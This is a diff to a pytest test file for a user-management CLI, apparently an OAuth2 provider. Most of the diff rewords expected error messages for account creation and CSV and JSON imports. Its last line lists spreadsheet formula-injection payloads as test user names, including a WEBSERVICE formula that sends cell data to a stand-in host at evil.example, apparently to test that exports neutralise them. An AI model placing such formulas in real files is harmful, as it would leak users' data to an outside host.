@@ -69,7 +69,7 @@ def test_an_account_is_created_with_its_claims(node: Provider) -> None:
 @pytest.mark.parametrize(
     ("options", "reason"),
     [
-        (("--email", "ada"), "--email: Write an email address"),
+        (("--email", "ada"), "--email: Enter an email address"),
         (("--email", "bob@example.org"), "--email: Another account has this email address."),
         (("--locale", "?"), "--locale: Write a language tag"),
         (("--email", "carol@example.org", "--email-verified"), "--email: "),
@@ -96,7 +96,7 @@ def test_the_first_operator_is_one_command(node: Provider) -> None:
 
 def test_an_operator_whose_claims_cannot_be_is_not_created(node: Provider) -> None:
     result = run(node, "users", "create", "ada", "--password", PASSWORD, "--operator", "--email", "ada", exit_code=1)
-    assert "--email: Write an email address" in result.output
+    assert "--email: Enter an email address" in result.output
     assert count(node) == 0
 
 
@@ -106,7 +106,7 @@ def test_a_password_comes_from_standard_input(node: Provider) -> None:
     run(node, "users", "passwd", "ada", "--password-stdin", feed=f"other {PASSWORD}\r\n")
     assert log_in(node, "ada", f"other {PASSWORD}") == 303
     both = ("--password", PASSWORD, "--password-stdin")
-    assert "exclude each other" in run(node, "users", "passwd", "ada", *both, exit_code=2).output
+    assert "not both" in run(node, "users", "passwd", "ada", *both, exit_code=2).output
 
 
 # A file
@@ -114,7 +114,7 @@ def test_a_password_comes_from_standard_input(node: Provider) -> None:
 
 def test_two_hundred_accounts_come_from_a_file_of_csv(node: Provider, tmp_path: Path) -> None:
     result = run(node, "users", "import", write(tmp_path, people(200)))
-    assert result.stdout == "200 accounts created; 0 there already.\n"
+    assert result.stdout == "200 accounts created; 0 already exist.\n"
     assert result.stderr.splitlines() == ["100 of 200", "200 of 200"]
     assert count(node) == 200
     row = node.server.users.find_row("person7")
@@ -170,19 +170,19 @@ def test_cells_are_separated_as_spreadsheets_do_it(
 @pytest.mark.parametrize(
     ("line", "reason"),
     [
-        (",Nobody,,", "line 3: Enter a user name."),
-        ("a\u200bda,,,", "line 3: A name has no control or invisible characters."),
-        ("bob,Bob,bob,", "line 3: email: Write an email address"),
+        (",Nobody,,", "line 3: Enter a username."),
+        ("a\u200bda,,,", "line 3: Remove control and invisible characters."),
+        ("bob,Bob,bob,", "line 3: email: Enter an email address"),
         ("bob,Bob,bob@example.org,perhaps", "line 3: email_verified: write true or false."),
-        ("bob,Bob", "line 3: It has 2 cells; the first line has 4."),
-        ("PERSON0,Another,,", "line 3: Line 2 has the same user name or email address."),
-        ("bob,Bob,Person0@example.org,", "line 3: Line 2 has the same user name or email address."),
-        ("person0@example.org,,,", "line 3: Line 2 has the same user name or email address."),
+        ("bob,Bob", "line 3: Has 2 cells, but the first line has 4."),
+        ("PERSON0,Another,,", "line 3: Line 2 has the same username or email address."),
+        ("bob,Bob,Person0@example.org,", "line 3: Line 2 has the same username or email address."),
+        ("person0@example.org,,,", "line 3: Line 2 has the same username or email address."),
         ('bob,"Bob,,', "line 3: It is not CSV"),
-        ("alice,Another,,", "line 3: alice is there already, with another name."),
+        ("alice,Another,,", "line 3: alice already exists with a different name."),
         ("bob,,alice@example.org,", "line 3: email: Another account has this email address."),
-        ("alice@example.org,,,", "line 3: Another account logs in by this user name or email address."),
-        ("bob,,dora@example.org,true", "line 3: Another account logs in by this user name or email address."),
+        ("alice@example.org,,,", "line 3: Another account has this username or email address."),
+        ("bob,,dora@example.org,true", "line 3: Another account has this username or email address."),
     ],
 )
 def test_one_line_that_is_wrong_is_named_and_nothing_is_written(
@@ -200,18 +200,18 @@ def test_one_line_that_is_wrong_is_named_and_nothing_is_written(
 @pytest.mark.parametrize(
     ("fields", "reason"),
     [
-        ('{"username": "ada", "groups": "staff"}', "Unknown: groups. These can be given: username, password"),
+        ('{"username": "ada", "groups": "staff"}', "Unknown: groups. Known: username, password"),
         ('{"username": "ada", "operator": true}', "Unknown: operator"),
-        ('{"username": "ada", "name": 5}', "name: write a text."),
-        ('{"username": ["ada"]}', "username: write a text."),
+        ('{"username": "ada", "name": 5}', "name: write a string."),
+        ('{"username": ["ada"]}', "username: write a string."),
         ('{"username": "ada", "username": "bob"}', "twice"),
         ('["ada"]', "not a JSON object"),
         ("ada", "not valid UTF-8 JSON"),
-        ('{"name": "Ada"}', "Enter a user name."),
+        ('{"name": "Ada"}', "Enter a username."),
         ('{"username": "ada", "password": "short"}', "at least 8 characters"),
         ('{"username": "ada", "password": "long enough", "password_hash": "x"}', "not both"),
-        ('{"username": "ada", "password_hash": "$2b$12$abcdefghijklmnopqrstuv"}', "write an argon2 hash"),
-        ('{"username": "ada", "password_hash": "5f4dcc3b5aa765d61d8327deb882cf99"}', "write an argon2 hash"),
+        ('{"username": "ada", "password_hash": "$2b$12$abcdefghijklmnopqrstuv"}', "must be an argon2 hash"),
+        ('{"username": "ada", "password_hash": "5f4dcc3b5aa765d61d8327deb882cf99"}', "must be an argon2 hash"),
         (
             '{"username": "ada", "password_hash": "$argon2id$v=19$m=99999999,t=2,p=1$c2FsdHNhbHQ$aGFzaGhhc2g"}',
             "too much memory or time",
@@ -277,7 +277,7 @@ def test_an_unknown_column_is_told_once_and_hides_no_other_mistake(node: Provide
 def test_a_dry_run_writes_nothing_and_says_what_would_be(node: Provider, tmp_path: Path) -> None:
     file = write(tmp_path, people(3))
     output = run(node, "users", "import", file, "--dry-run").stdout
-    assert output == "3 accounts to create; 0 there already. Nothing was written.\n"
+    assert output == "3 accounts to create; 0 already exist. Nothing was written.\n"
     assert count(node) == 0
     wrong = write(tmp_path, people(1) + "x,x,x,x\n")
     assert "line 3" in run(node, "users", "import", wrong, "--dry-run", exit_code=1).output
@@ -287,7 +287,7 @@ def test_what_is_there_already_is_passed_over(node: Provider, tmp_path: Path) ->
     run(node, "users", "import", write(tmp_path, people(3)))
     before = rows(node, "SELECT id, updated_at FROM oauth2_user ORDER BY id")
     again = run(node, "users", "import", write(tmp_path, people(5)))
-    assert again.stdout == "2 accounts created; 3 there already.\n"
+    assert again.stdout == "2 accounts created; 3 already exist.\n"
     assert rows(node, "SELECT id, updated_at FROM oauth2_user ORDER BY id")[:3] == before
 
 
@@ -311,7 +311,7 @@ def test_an_import_that_was_interrupted_goes_on_where_it_stopped(
     assert result.exit_code == 1
     assert count(node) == 20  # two whole batches, and nothing of the third
     assert rows(node, "SELECT count(*) FROM oauth2_subject") == [(20,)]
-    assert run(node, "users", "import", file).stdout == "15 accounts created; 20 there already.\n"
+    assert run(node, "users", "import", file).stdout == "15 accounts created; 20 already exist.\n"
 
 
 # Links
@@ -332,7 +332,7 @@ def test_new_accounts_without_a_password_get_links_in_a_file_of_ones_own(node: P
         path = row["link"].removeprefix("https://id.example")
         assert f"<strong>{row['username']}</strong>" in Resident(node.application).get(path).text
     again = run(node, "users", "import", write(tmp_path, content), "--links", str(links), exit_code=1)
-    assert "cannot be made" in again.output
+    assert "can't be created" in again.output
 
 
 @pytest.mark.parametrize("name", ['=WEBSERVICE("https://evil.example/?"&B3)', "+cmd|x", "-1+1", "@SUM(1)"])
